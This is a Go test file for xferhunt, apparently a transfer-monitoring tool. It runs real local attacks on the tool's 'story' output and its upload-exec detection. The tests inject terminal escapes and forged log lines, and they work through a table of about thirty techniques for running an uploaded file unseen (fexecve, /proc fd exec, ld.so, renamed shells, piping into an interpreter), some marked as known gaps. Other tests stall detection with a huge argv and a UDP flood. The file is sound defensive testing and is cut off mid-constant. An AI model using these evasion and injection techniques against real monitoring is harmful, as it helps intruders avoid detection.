package live

// Attacks on the story feature (issue 8) by the people it watches: a local
// user with an ssh login on a host where xferhunt runs as root. Each test
// sets up a real sshd (ports 22270–22279), real throw-away users and a real
// `xferhunt --headless --source netlink` run, makes the attack for real,
// and asserts the behaviour a defender needs. A defense that holds is
// asserted as such. A defense that does not is reported through attackBugs:
// the test is skipped with "BUG: …" (so the branch stays green and the lead
// decides), unless XFERHUNT_ATTACK_STRICT=1, which makes each bug a failure.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/xferhunt/xferhunt/ecs"
	"github.com/xferhunt/xferhunt/internal/testenv"
	"github.com/xferhunt/xferhunt/state"
)

// attackBugs collects the defenses a test found broken; report ends the
// test with them (see the file comment).
type attackBugs struct {
	t    *testing.T
	bugs []string
}

func (b *attackBugs) add(format string, args ...any) {
	b.t.Helper()
	msg := fmt.Sprintf(format, args...)
	b.t.Log("BUG: " + msg)
	b.bugs = append(b.bugs, msg)
}

func (b *attackBugs) report() {
	b.t.Helper()
	if len(b.bugs) == 0 {
		return
	}
	msg := "BUG: " + strings.Join(b.bugs, "; BUG: ")
	if os.Getenv("XFERHUNT_ATTACK_STRICT") == "1" {
		b.t.Fatal(msg)
	}
	b.t.Skip(msg)
}

// attackHost is the first half of most attacks' set-up: it takes the audit
// lock alone, needs ssh, python3 and bins, creates the users named (in that
// order), starts sshd on port and makes a drop directory under /tmp.
func attackHost(t *testing.T, port int, dirPrefix string, users []string, bins ...string) (string, []*testenv.User) {
	t.Helper()
	lockAuditAlone(t)
	for _, b := range append([]string{"/usr/bin/ssh", "/usr/bin/python3"}, bins...) {
		testenv.NeedBinary(t, b)
	}
	us := make([]*testenv.User, len(users))
	for i, name := range users {
		us[i] = testenv.CreateUser(t, name)
	}
	testenv.StartSSHD(t, port)
	return dropDir(t, "/tmp", dirPrefix), us
}

// chainRig is the set-up of the attacks on the upload-exec chain: a victim
// and an attacker who log in over sshd on port, a drop directory holding
// the attack's scripts (ops.py, fake.pl) and a world-writable fake/ for the
// attacker's files, and xferhunt running --rule seed --rule upload-exec
// over netlink with its state in stateDir. It takes the audit lock.
type chainRig struct {
	victim, attacker                  *testenv.User
	dir, ops, fake, fakeDir, stateDir string
	x                                 *xfer
}

func newChainRig(t *testing.T, port int, victim, attacker, dirPrefix string) *chainRig {
	t.Helper()
	dir, us := attackHost(t, port, dirPrefix, []string{victim, attacker}, "/usr/bin/perl")
	r := &chainRig{victim: us[0], attacker: us[1], dir: dir}
	r.ops = writeScript(t, r.dir, "ops.py", attackOps)
	r.fake = writeScript(t, r.dir, "fake.pl", fakeSCP)
	r.fakeDir = filepath.Join(r.dir, "fake")
	if err := os.Mkdir(r.fakeDir, 0o1777); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(r.fakeDir, 0o1777); err != nil {
		t.Fatal(err)
	}
	r.x, r.stateDir = startNetlinkHeadless(t, "--rule", "seed", "--rule", "upload-exec")
	return r
}

// perlAsSCP copies perl into fake/ as scp: the attacker's transfer
// program by name.
func (r *chainRig) perlAsSCP(t *testing.T) string {
	t.Helper()
	cp := filepath.Join(r.fakeDir, "scp")
	if b, err := os.ReadFile("/usr/bin/perl"); err != nil {
		t.Fatal(err)
	} else if err := os.WriteFile(cp, b, 0o755); err != nil {
		t.Fatal(err)
	}
	return cp
}

// sshRun runs cmd through a real ssh login of u from bindAddr (the user's
// shell runs it, as `ssh host CMD` does) and returns its output.
func sshRun(u *testenv.User, port int, bindAddr, cmd string, timeout time.Duration) (string, error) {
	args := sshOpts(u, port, bindAddr)
	for i := range args {
		if args[i] == "-P" {
			args[i] = "-p"
		}
	}
	args = append(args, u.Name+"@127.0.0.1", cmd)
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	out, err := exec.CommandContext(ctx, "/usr/bin/ssh", args...).CombinedOutput()
	if err != nil {
		return string(out), fmt.Errorf("ssh %s: %w: %s", cmd, err, out)
	}
	return string(out), nil
}

// writeScript writes a root-owned, world-readable script the test users run.
func writeScript(t *testing.T, dir, name, text string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

// storyOut runs `xferhunt story` and returns stdout, stderr and the exit code.
func storyOut(args ...string) (stdout, stderr []byte, code int) {
	cmd := exec.Command(binPath, append([]string{"story"}, args...)...)
	var o, e bytes.Buffer
	cmd.Stdout, cmd.Stderr = &o, &e
	err := cmd.Run()
	code = 0
	if err != nil {
		code = -1
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		}
	}
	return o.Bytes(), e.Bytes(), code
}

// ndjsonDocs parses `story --format ndjson` output.
func ndjsonDocs(t *testing.T, out []byte) []ecs.Doc {
	t.Helper()
	var docs []ecs.Doc
	sc := bufio.NewScanner(bytes.NewReader(out))
	sc.Buffer(nil, 64<<20)
	for sc.Scan() {
		if len(bytes.TrimSpace(sc.Bytes())) == 0 {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("story ndjson line %q: %v", sc.Text(), err)
		}
		docs = append(docs, ecs.Doc(m))
	}
	return docs
}

// terminalUnsafe lists what in b could drive or fool a terminal: C0
// controls but newline, DEL, invalid UTF-8, C1 controls and invisible
// formatting characters (bidi overrides among them).
func terminalUnsafe(b []byte) []string {
	var bad []string
	for i := 0; i < len(b); {
		r, n := utf8.DecodeRune(b[i:])
		switch {
		case r == utf8.RuneError && n <= 1:
			bad = append(bad, fmt.Sprintf("invalid UTF-8 byte %#x at %d", b[i], i))
		case r == '\n':
		case r < 0x20 || r == 0x7f:
			bad = append(bad, fmt.Sprintf("control %#x at %d", r, i))
		case r >= 0x80 && r < 0xa0:
			bad = append(bad, fmt.Sprintf("C1 control U+%04X at %d", r, i))
		case unicode.Is(unicode.Cf, r) || r == 0x2028 || r == 0x2029:
			bad = append(bad, fmt.Sprintf("format character U+%04X at %d", r, i))
		}
		i += n
	}
	return bad
}

// procStat is a process's CPU time (user+system, clock ticks) and peak RSS.
func procStat(pid int) (ticks int64, hwmKB int64) {
	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid)); err == nil {
		s := string(b)
		if i := strings.LastIndexByte(s, ')'); i > 0 {
			f := strings.Fields(s[i+2:])
			if len(f) > 13 {
				u, _ := strconv.ParseInt(f[11], 10, 64)
				st, _ := strconv.ParseInt(f[12], 10, 64)
				ticks = u + st
			}
		}
	}
	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid)); err == nil {
		for _, l := range strings.Split(string(b), "\n") {
			if strings.HasPrefix(l, "VmHWM:") {
				f := strings.Fields(l)
				if len(f) >= 2 {
					hwmKB, _ = strconv.ParseInt(f[1], 10, 64)
				}
			}
		}
	}
	return ticks, hwmKB
}

// vmRSS is a process's resident size now, in KiB.
func vmRSS(pid int) int64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, l := range strings.Split(string(b), "\n") {
		if f := strings.Fields(l); len(f) >= 2 && f[0] == "VmRSS:" {
			n, _ := strconv.ParseInt(f[1], 10, 64)
			return n
		}
	}
	return 0
}

// chainAlerts are the upload-exec alerts read so far.
func chainAlerts(x *xfer) []alert {
	var out []alert
	for _, a := range x.Alerts() {
		if a.Doc.Str("kibana.alert.rule.name") == "Remote upload executed" {
			out = append(out, a)
		}
	}
	return out
}

// TestAttackStoryTextEscapes: a logged-in user puts terminal escapes (CSI,
// OSC 0 and 52, BEL), newlines, CR, DEL, invalid UTF-8, C1 controls and a
// bidi override into everything a story prints: the arguments of an exec,
// the working directory, a created file's name and the process name (set
// with prctl through perl's $0, and as the name of an executable). Held:
// `xferhunt story` text output carries none of them raw, one line per
// event, with each made visible. Also compared: the story of the same run
// from auditd's log and from the live run's state (the journal).
func TestAttackStoryTextEscapes(t *testing.T) {
	lockAuditAlone(t)
	testenv.NeedBinary(t, "/usr/bin/ssh")
	testenv.NeedBinary(t, "/usr/bin/perl")
	const port = 22270
	const from = "127.0.0.41"
	u := testenv.CreateUser(t, "xfatk-esc")
	testenv.StartSSHD(t, port)
	dir := dropDir(t, "/tmp", "xferhunt-attack-esc-")
	script := writeScript(t, dir, "hostile.pl", `use strict; use warnings; use File::Copy;
my $d = shift;
my $cwd = "$d/cwd\e]0;PWNED-CWD\a\nX";
mkdir $cwd or die "mkdir: $!";
chdir $cwd or die "chdir: $!";
system { "/bin/true" } "true", "\e[2J\e[31mRED-ARG", "\e]52;c;cHduZWQ=\a",
	"line1\n  2026-01-01 00:00:00.000 1     root       login     sshd[1]                root from 10.6.6.6",
	"bad\xff\xfeutf8", "bidi\xe2\x80\xaetxt.exe", "c1\xc2\x9b31m", "rawc1\x9b31m", "del\x7f", "cr\rOVERWRITE";
open(my $f, ">", "$d/file\e[8mHIDDEN\a\r") or die "create: $!"; close $f;
my $bin = "$d/\e]2;T\a";
copy("/usr/bin/touch", $bin) or die "copy: $!"; chmod 0755, $bin;
system { $bin } "x", "$d/by-hostile-exe-name" and die "hostile exe: $?";
$0 = "\e[5mBLINK\a";
open($f, ">", "$d/after-prctl") or die "create: $!"; close $f;
print "done\n";
`)
	auditDir := t.TempDir()
	ad := testenv.StartAuditd(t, auditDir, "RAW", "")
	x, state := startNetlinkHeadless(t, "--rule", "seed", "--rule", "upload-exec")
	if out, err := sshRun(u, port, from, "perl "+script+" "+dir, 30*time.Second); err != nil || !strings.Contains(out, "done") {
		t.Fatalf("hostile script: %v %s", err, out)
	}
	marker := filepath.Join(dir, "after-prctl")
	testenv.WaitFor(t, func() bool {
		b, err := os.ReadFile(ad.LogPath)
		return err == nil && bytes.Contains(b, []byte(strings.ToUpper(fmt.Sprintf("%x", marker)))) || bytes.Contains(b, []byte(`"`+marker+`"`))
	}, 10*time.Second, "the last creation in auditd's log")
	time.Sleep(2 * time.Second) // the live run's journal commits once a second
	x.stop(10 * time.Second)
	ad.Stop(t)

	var bugs = &attackBugs{t: t}
	check := func(where string, args ...string) []byte {
		out, errOut, code := storyOut(append([]string{"--user", u.Name}, args...)...)
		if code != 0 {
			t.Fatalf("%s: story exit %d: %s", where, code, errOut)
		}
		if bad := terminalUnsafe(out); len(bad) > 0 {
			t.Errorf("%s: story text output carries %d unsafe sequences, first %v", where, len(bad), bad[0])
		}
		if bad := terminalUnsafe(errOut); len(bad) > 0 {
			t.Errorf("%s: story stderr carries unsafe sequences: %v", where, bad[0])
		}
		nd, _, code := storyOut(append([]string{"--user", u.Name, "--format", "ndjson"}, args...)...)
		if code != 0 {
			t.Fatalf("%s: story ndjson exit %d", where, code)
		}
		docs := ndjsonDocs(t, nd)
		lines := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
		if len(lines) != len(docs)+2 {
			t.Errorf("%s: %d text lines for %d events: a host string broke a line", where, len(lines), len(docs))
		}
		for i, l := range lines[2:] {
			if !strings.HasPrefix(l, "  20") && !strings.HasPrefix(l, "! 20") {
				t.Errorf("%s: line %d does not start as an event row: %q", where, i+3, l)
			}
		}
		for _, want := range []string{
			`cwd\x1b]0;PWNED-CWD\x07\nX`, `\x1b[2J\x1b[31mRED-ARG`, `\x1b]52;c;cHduZWQ=\x07`, `line1\n  2026`,
			`bidi\u202etxt.exe`, `c1\u009b31m`, `del\x7f`, `cr\rOVERWRITE`, `file\x1b[8mHIDDEN\x07\r`,
			`\x1b]2;T\x07[`, `\x1b[5mBLINK\x07 (perl)[`, // a renamed process shows its executable
		} {
			if !strings.Contains(string(out), want) {
				t.Errorf("%s: story text lacks the visible form %s", where, want)
			}
		}
		// Invalid UTF-8 must stay visible as the bytes it was.
		for _, want := range []string{`bad\xff\xfeutf8`, `rawc1\x9b31m`} {
			if !strings.Contains(string(out), want) {
				bugs.add("%s: the story shows %s otherwise (invalid UTF-8 is not told as its bytes): %q", where, want, grepLine(out, "utf8"))
			}
		}
		t.Logf("%s: %d events, %d bytes of text", where, len(docs), len(out))
		return out
	}
	fromLog := check("auditd log", ad.LogPath)
	fromState := check("state", "--state", state)
	if len(fromLog) != len(fromState) {
		t.Logf("story from the log:\n%s\nstory from the state:\n%s", fromLog, fromState)
	}
	bugs.report()
}

// grepLine returns the first line of b holding s.
func grepLine(b []byte, s string) string {
	for _, l := range strings.Split(string(b), "\n") {
		if strings.Contains(l, s) {
			return l
		}
	}
	return ""
}

// evasion is one way to run an upload: its commands (bash, in the drop
// directory) and the chain alerts a defender needs from them.
type evasion struct {
	name   string // the upload is up-NAME in the drop directory (or Path)
	path   string // upload path relative to the drop directory, when not up-NAME
	kind   string // payload: sh (default), py, pl
	mode   os.FileMode
	cmd    string
	want   []string // triggers wanted for this upload: made_executable, executed
	notBy  []string // the executed alert must not name these processes
	gap    string   // why it fails today (known), "" when it holds
	marker string
}

// attackOps is a helper the attacker runs instead of ln, cp, chmod or mv:
// the paths travel in the environment, so no exec event names them as
// arguments.
const attackOps = `import os, sys
op, a, b = os.environ["OP"], os.environ.get("A"), os.environ.get("B")
if op == "link": os.link(a, b)
elif op == "symlink": os.symlink(a, b)
elif op == "copy":
    data = open(a, "rb").read()
    fd = os.open(b, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
    os.write(fd, data); os.close(fd)
elif op == "rename": os.rename(a, b)
elif op == "chmod": os.chmod(a, 0o755)
elif op == "fchmod":
    fd = os.open(a, os.O_RDONLY); os.fchmod(fd, 0o755)
elif op == "procfd":
    fd = os.open(a, os.O_RDONLY); os.set_inheritable(fd, True)
    os.execv("/proc/self/fd/%d" % fd, ["x"])
elif op == "fexecve":
    fd = os.open(a, os.O_RDONLY); os.set_inheritable(fd, True)
    os.execve(fd, ["x"], dict(os.environ))
else: sys.exit("unknown op " + op)
`

// TestAttackUploadExecEvasion: one login uploads a script per technique
// over sftp; a second login runs each of them a different way. The
// defender needs "Remote upload executed" for each upload that ran (and
// made_executable where the run needed a chmod), naming the run, not a
// command that only read or listed the file.
func TestAttackUploadExecEvasion(t *testing.T) {
	const port = 22271
	const from = "127.0.0.42"
	dir, us := attackHost(t, port, "xferhunt-attack-ev-", []string{"xfatk-ev"}, "/usr/bin/perl")
	u := us[0]
	ops := writeScript(t, dir, "ops.py", attackOps)
	py := "python3 " + ops
	// mvfs needs a file system other than dir's: /dev/shm (tmpfs).
	shm := "/dev/shm/" + filepath.Base(dir) + "-mvfs"
	t.Cleanup(func() { os.Remove(shm) })
	if sameFS(t, dir, "/dev/shm") {
		t.Fatalf("%s and /dev/shm are one file system: mvfs would test a rename", dir)
	}
	evs := []evasion{
		{name: "control", cmd: "OP=chmod A=up-control " + py + " && ./up-control", want: []string{"made_executable", "executed"}},
		// Before 24edb6f `chmod +x f` was reported as f executed by chmod,
		// and `ls -l f` spent the upload's one executed alert.
		{name: "plain", cmd: "chmod +x up-plain && ./up-plain", want: []string{"made_executable", "executed"}, notBy: []string{"chmod"}},
		{name: "mask", cmd: "ls -l up-mask >/dev/null && sh up-mask", want: []string{"executed"}, notBy: []string{"ls"}},
		// hardlink, symlink, procfd and dirmv were gaps until the chain
		// followed the inode an exec's record names.
		{name: "hardlink", cmd: "OP=link A=up-hardlink B=hl " + py + " && OP=chmod A=hl " + py + " && ./hl", want: []string{"made_executable", "executed"}},
		{name: "symlink", cmd: "OP=chmod A=up-symlink " + py + " && OP=symlink A=up-symlink B=sl " + py + " && ./sl", want: []string{"executed"}},
		{name: "copy", cmd: "OP=copy A=up-copy B=cpy " + py + " && ./cpy", want: []string{"executed"},
			gap: "a copy of the upload made by another program is a new file"},
		// cp, and mv across file systems (/dev/shm is another one: a
		// copy, then the upload deleted), are followed (detect/chain.go
		// copiedFrom).
		{name: "cp", cmd: "cp up-cp cpx && chmod +x cpx && ./cpx", want: []string{"made_executable", "executed"}},
		{name: "mvfs", cmd: "mv up-mvfs " + shm + " && chmod +x " + shm + " && " + shm, want: []string{"made_executable", "executed"}},
		{name: "stdin", cmd: "sh < up-stdin", want: []string{"executed"}, gap: "a script fed to an interpreter on stdin names no file"},
		{name: "pipe", cmd: "cat < up-pipe | sh", want: []string{"executed"}, gap: "a script piped into an interpreter names no file"},
		{name: "procfd", cmd: "OP=chmod A=up-procfd " + py + " && OP=procfd A=up-procfd " + py, want: []string{"executed"}},
		// fexecve's record names "" and the upload's inode (a gap until
		// the chain looked an exec of no name up by its inode).
		{name: "fexecve", cmd: "OP=chmod A=up-fexecve " + py + " && OP=fexecve A=up-fexecve " + py, want: []string{"executed"}},
		{name: "dirmv", path: "sub7/tool", cmd: "OP=rename A=sub7 B=sub7b " + py + " && OP=chmod A=sub7b/tool " + py + " && ./sub7b/tool",
			want: []string{"made_executable", "executed"}},
		{name: "mv2", cmd: "OP=rename A=up-mv2 B=mv2a " + py + " && OP=rename A=mv2a B=mv2b " + py + " && OP=chmod A=mv2b " + py + " && ./mv2b",
			want: []string{"made_executable", "executed"}},
		{name: "dotdot", cmd: "mkdir sub9 && OP=chmod A=up-dotdot " + py + " && " + dir + "/sub9/../up-dotdot", want: []string{"made_executable", "executed"}},
		{name: "relative", cmd: "mkdir sub10 && cd sub10 && sh ../up-relative", want: []string{"executed"}},
		{name: "python", kind: "py", cmd: "python3 up-python", want: []string{"executed"}},
		{name: "pystdin", kind: "py", cmd: "python3 - < up-pystdin", want: []string{"executed"}, gap: "a script fed to an interpreter on stdin names no file"},
		{name: "pyexec", kind: "py", cmd: `F=up-pyexec python3 -c 'import os; exec(open(os.environ["F"]).read())'`, want: []string{"executed"},
			gap: "a script read by an interpreter's -c code names no file"},
		{name: "perl", kind: "pl", cmd: "perl up-perl", want: []string{"executed"}},
		{name: "perldo", kind: "pl", cmd: `F=up-perldo perl -e 'do "./$ENV{F}"'`, want: []string{"executed"}, gap: "a script read by an interpreter's -e code names no file"},
		{name: "source", cmd: `F=up-source bash -c '. "./$F"'`, want: []string{"executed"}, gap: "a script sourced by a shell (-c) names no file"},
		{name: "fchmod", cmd: "OP=fchmod A=up-fchmod " + py + " && ./up-fchmod", want: []string{"made_executable", "executed"},
			gap: "fchmod names no path (README, Known limits)"},
		{name: "landsx", mode: 0o755, cmd: "./up-landsx", want: []string{"executed"}},
		// The dynamic loader runs the ELF its argument names (a gap until
		// ld.so counted as an interpreter, detect/chain.go).
		{name: "ldso", kind: "elf", cmd: "/lib64/ld-linux-x86-64.so.2 ./up-ldso ran-ldso", want: []string{"executed"}},
		// A copy of sh under another name (a gap until the chain
		// followed copies of interpreters by cp, mv and install).
		{name: "renamedsh", cmd: "cp /bin/sh ./notashell && ./notashell up-renamedsh", want: []string{"executed"}},
		// An argument over 8 KiB or 70 options before the script cut it
		// from the story event's arguments (story.keepArgs): gaps until
		// the chain read an interpreter's cut arguments from the document.
		{name: "longarg", kind: "py", cmd: "python3 -X " + strings.Repeat("x", 9000) + " up-longarg", want: []string{"executed"}},
		{name: "manyflags", kind: "py", cmd: "python3" + strings.Repeat(" -u", 70) + " up-manyflags", want: []string{"executed"}},
		{name: "last", cmd: "OP=chmod A=up-last " + py + " && ./up-last", want: []string{"made_executable", "executed"}},
	}
	var batch strings.Builder
	batch.WriteString("mkdir " + dir + "/sub7\n")
	var driver strings.Builder
	for i := range evs {
		e := &evs[i]
		if e.path == "" {
			e.path = "up-" + e.name
		}
		e.marker = filepath.Join(dir, "ran-"+e.name)
		var content string
		switch e.kind {
		case "elf":
			b, err := os.ReadFile("/usr/bin/touch")
			if err != nil {
				t.Fatal(err)
			}
			content = string(b)
		case "py":
			content = fmt.Sprintf("open(%q, 'w').write('ran')\n", e.marker)
		case "pl":
			content = fmt.Sprintf("open(F, '>', %q); print F 'ran';\n", e.marker)
		default:
			content = "#!/bin/sh\necho ran > " + e.marker + "\n"
		}
		mode := e.mode
		if mode == 0 {
			mode = 0o644
		}
		src := filepath.Join(t.TempDir(), "payload")
		if err := os.WriteFile(src, []byte(content), mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(src, mode); err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&batch, "put %s %s/%s\n", src, dir, e.path)
		fmt.Fprintf(&driver, "( cd %s && %s ) >/dev/null 2>&1; echo %s rc=$?\n", dir, e.cmd, e.name)
	}
	batchFile := filepath.Join(t.TempDir(), "batch")
	if err := os.WriteFile(batchFile, []byte(batch.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	drv := writeScript(t, dir, "driver.sh", driver.String())

	x, state := startNetlinkHeadless(t, "--rule", "seed", "--rule", "upload-exec")
	if err := sftpBatch(u, port, from, batchFile); err != nil {
		t.Fatal(err)
	}
	out, err := sshRun(u, port, from, "bash "+drv, 120*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("driver:\n%s", out)
	last := filepath.Join(dir, "up-last")
	if !x.waitCount(func(a alert) bool {
		return a.Doc.Str("xferhunt.chain.upload.path") == last && a.Doc.Str("xferhunt.chain.trigger") == "executed"
	}, 1, 20*time.Second) {
		t.Errorf("no executed alert for the last upload (the end marker) within 20 s")
	}
	time.Sleep(time.Second)
	x.stop(10 * time.Second)

	type got struct{ trigger, process string }
	byUpload := map[string][]got{}
	for _, a := range chainAlerts(x) {
		p := a.Doc.Str("xferhunt.chain.upload.path")
		byUpload[p] = append(byUpload[p], got{a.Doc.Str("xferhunt.chain.trigger"), a.Doc.Str("process.name")})
	}
	bugs := &attackBugs{t: t}
	var table strings.Builder
	fmt.Fprintf(&table, "%-10s %-4s %-45s %s\n", "technique", "ran", "alerts (trigger by process)", "verdict")
	for _, e := range evs {
		_, statErr := os.Stat(e.marker)
		ran := statErr == nil
		if !ran {
			t.Errorf("%s: the payload did not run (%s): the technique is not tested", e.name, e.cmd)
		}
		gs := byUpload[filepath.Join(dir, e.path)]
		var desc []string
		for _, g := range gs {
			desc = append(desc, g.trigger+" by "+g.process)
		}
		var missing []string
		for _, w := range e.want {
			ok := false
			for _, g := range gs {
				if g.trigger == w && !(w == "executed" && slicesContains(e.notBy, g.process)) {
					ok = true
				}
			}
			if !ok {
				missing = append(missing, w)
			}
		}
		verdict := "held"
		switch {
		case len(missing) > 0 && e.gap != "":
			verdict = "BROKEN (" + strings.Join(missing, ", ") + " missing)"
			bugs.add("upload-exec evaded by %s (`%s`): no %s alert (%s); alerts: %v", e.name, short(e.cmd), strings.Join(missing, "/"), e.gap, desc)
		case len(missing) > 0:
			verdict = "REGRESSED"
			t.Errorf("upload-exec evaded by %s (`%s`): no %s alert; alerts: %v", e.name, short(e.cmd), strings.Join(missing, "/"), desc)
		case e.gap != "":
			verdict = "held (was a known gap: drop it)"
			t.Logf("%s: held although marked as a gap (%s)", e.name, e.gap)
		}
		fmt.Fprintf(&table, "%-10s %-4v %-45s %s\n", e.name, ran, strings.Join(desc, ", "), verdict)
	}
	t.Logf("upload-exec against %d techniques:\n%s", len(evs), table.String())

	// Evidence for a fix: which execs of the run carried the inode of an
	// upload that was not linked to them by name.
	nd, errOut, code := storyOut("--state", state, "--user", u.Name, "--format", "ndjson")
	if code != 0 {
		t.Fatalf("story: exit %d: %s", code, errOut)
	}
	docs := ndjsonDocs(t, nd)
	uploadIno := map[string]string{} // inode → upload path
	for _, d := range docs {
		if d.Str("event.action") == "creation" && strings.HasPrefix(d.Str("process.name"), "sftp-server") && d.Str("file.inode") != "" {
			uploadIno[d.Str("file.inode")] = d.Str("file.path")
		}
	}
	var ev strings.Builder
	for _, d := range docs {
		if d.Str("event.action") != "exec" {
			continue
		}
		if up, ok := uploadIno[d.Str("file.inode")]; ok && d.Str("file.path") != up {
			fmt.Fprintf(&ev, "  exec of %q (process %s) has inode %s of upload %s\n", d.Str("file.path"), d.Str("process.name"), d.Str("file.inode"), filepath.Base(up))
		}
	}
	t.Logf("%d uploads with an inode; execs that ran an upload under another name:\n%s", len(uploadIno), ev.String())
	bugs.report()
}

// short cuts a command for a message.
func short(s string) string {
	if len(s) > 100 {
		return s[:60] + "…" + s[len(s)-30:]
	}
	return s
}

func slicesContains(l []string, s string) bool {
	for _, v := range l {
		if v == s {
			return true
		}
	}
	return false
}

// hugeExec runs /bin/true with N path-like arguments, K times, and prints
// how long the execs took the attacker.
const hugeExec = `import subprocess, sys, time
n, k = int(sys.argv[1]), int(sys.argv[2])
args = ["/bin/true"] + ["/%d" % i for i in range(n)]
t = time.time()
for _ in range(k):
    subprocess.run(args, check=True)
print("execs %.3f s" % (time.time() - t))
`

// udpFlood makes N connects of one UDP socket to loopback: each is a
// successful connect, recorded by the session rules.
const udpFlood = `import socket, sys, time
n = int(sys.argv[1])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
t = time.time()
for i in range(n):
    s.connect(("127.0.0.1", 1024 + i % 20000))
d = time.time() - t
print("connects %d in %.3f s (%.0f/s)" % (n, d, n / d))
`

// uploadAndChmod uploads a file over sftp and makes it executable in the
// same session: upload-exec raises made_executable for it. It returns
// when sftp is done.
func uploadAndChmod(t *testing.T, u *testenv.User, port int, from, dest string) time.Time {
	t.Helper()
	src := writePayload(t, "#!/bin/sh\necho hi\n")
	batch := filepath.Join(t.TempDir(), "batch")
	if err := os.WriteFile(batch, []byte(fmt.Sprintf("put %s %s\nchmod 755 %s\n", src, dest, dest)), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := sftpBatch(u, port, from, batch); err != nil {
		t.Fatal(err)
	}
	return time.Now()
}

// waitChain waits for the made_executable alert of an upload and returns
// how long after done it arrived (at least 0: the alert may be read before
// the sftp client has exited), or -1 when it did not come within timeout.
func waitChain(x *xfer, upload string, done time.Time, timeout time.Duration) time.Duration {
	var at time.Time
	ok := x.waitUntil(func() bool {
		for _, a := range x.alerts {
			if a.Doc.Str("xferhunt.chain.upload.path") == upload && a.Doc.Str("xferhunt.chain.trigger") == "made_executable" {
				at = a.At
				return true
			}
		}
		return false
	}, timeout)
	if !ok {
		return -1
	}
	return max(0, at.Sub(done))
}

// TestAttackStoryHugeArgv: a logged-in user runs /bin/true with 65,535
// short absolute-path arguments (about 1 MiB of argv, far under ARG_MAX).
// The story store indexes every argument that looks like a path, and
// Event.Files removes duplicates with a nested loop: quadratic in the
// argument count, on the detection goroutine, under the store's lock. The
// defender needs detection to keep up: an upload made right after the
// exec must alert as fast as one made before it, and an upload made while
// the same user floods events must not be dropped.
func TestAttackStoryHugeArgv(t *testing.T) {
	const port = 22272
	const fromA, fromB = "127.0.0.43", "127.0.0.44"
	dir, us := attackHost(t, port, "xferhunt-attack-argv-", []string{"xfatk-hv", "xfatk-ha"})
	victim, attacker := us[0], us[1]
	huge := writeScript(t, dir, "huge.py", hugeExec)
	flood := writeScript(t, dir, "flood.py", udpFlood)
	x, state := startNetlinkHeadless(t, "--rule", "seed", "--rule", "upload-exec")
	bugs := &attackBugs{t: t}

	f0 := filepath.Join(dir, "f0")
	l0 := waitChain(x, f0, uploadAndChmod(t, victim, port, fromA, f0), 30*time.Second)
	if l0 < 0 {
		x.stop(10 * time.Second)
		o, e, _ := storyOut("--state", state, "--user", victim.Name)
		for _, a := range x.Alerts() {
			t.Logf("alert %q trigger %q upload %q", a.Doc.Str("kibana.alert.rule.name"), a.Doc.Str("xferhunt.chain.trigger"), a.Doc.Str("xferhunt.chain.upload.path"))
		}
		t.Fatalf("baseline: no made_executable alert for %s; alerts:%s\nstory:\n%s%s", f0, describe(x.Alerts()), o, e)
	}
	t.Logf("baseline: upload → alert %v", l0)

	ticks0, _ := procStat(x.PID())
	out, err := sshRun(attacker, port, fromB, "python3 "+huge+" 65535 1", 60*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("attacker: one exec of 65,535 path arguments: %s", strings.TrimSpace(out))
	f1 := filepath.Join(dir, "f1")
	l1 := waitChain(x, f1, uploadAndChmod(t, victim, port, fromA, f1), 180*time.Second)
	ticks1, hwm1 := procStat(x.PID())
	t.Logf("after one huge exec: upload → alert %v; xferhunt used %.1f s of CPU meanwhile, peak RSS %d MiB",
		l1, float64(ticks1-ticks0)/100, hwm1>>10)
	if l1 < 0 || l1 > l0+5*time.Second {
		bugs.add("one exec with 65,535 path arguments stalls detection: an upload made after it alerted after %v (baseline %v; -1: not within 180 s); xferhunt spent %.1f s of CPU on it",
			l1, l0, float64(ticks1-ticks0)/100)
	}

	// The stall as a blind spot: exec, then flood while the victim's
	// upload happens; the bridge in front of detection holds 65,536 events.
	before := x.lastStatus()
	floodDone := make(chan string, 1)
	go func() {
		out, err := sshRun(attacker, port, fromB, "python3 "+huge+" 65535 1 && python3 "+flood+" 300000", 300*time.Second)
		if err != nil {
			out += err.Error()
		}
		floodDone <- out
	}()
	time.Sleep(2 * time.Second)
	f2 := filepath.Join(dir, "f2")
	done2 := uploadAndChmod(t, victim, port, fromA, f2)
	t.Logf("attacker: %s", strings.TrimSpace(<-floodDone))
	l2 := waitChain(x, f2, done2, 240*time.Second)
	ticks2, hwm2 := procStat(x.PID())
	x.stop(60 * time.Second)
	final := x.finalStatus()
	t.Logf("status before the flood: %s", before)
	t.Logf("final status: %+v", final)
	t.Logf("huge exec + 300k connects: upload → alert %v; xferhunt CPU %.1f s since the first huge exec, peak RSS %d MiB (%d after the first)",
		l2, float64(ticks2-ticks0)/100, hwm2>>10, hwm1>>10)
	if l2 < 0 {
		bugs.add("a huge exec followed by a flood of 300k connects hid an upload made meanwhile: no alert within 240 s (status: %+v)", final.Sources)
	}
	bugs.report()
}

// pacedFlood makes N UDP connects at about RATE a second (0: as fast as
// it can), in batches of 500.
const pacedFlood = `import socket, sys, time
n, rate = int(sys.argv[1]), float(sys.argv[2])
